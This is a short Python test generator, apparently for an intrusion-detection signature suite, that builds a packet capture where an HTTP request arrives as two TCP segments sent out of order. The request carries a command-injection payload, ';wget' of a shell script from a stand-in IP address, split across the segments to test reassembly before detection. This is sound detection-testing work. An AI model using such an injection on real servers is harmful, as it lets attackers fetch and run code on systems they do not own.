# tests/signature/out_of_order/gen.py: the second half of an attack arrives before the first
# (also the first data segment of the flow: HTTP detection must wait for the start).
from siglib import Capture, TcpSession, out_path
cap = Capture()
s = TcpSession(cap).handshake()
a, b = b"GET /?x=1;wget http://203", b".0.113.9/s.sh HTTP/1.0\r\n\r\n"
s.seg(b, seq_off=len(a))
s.seg(a)
s.cseq += len(b)
s.close()
cap.write(out_path())
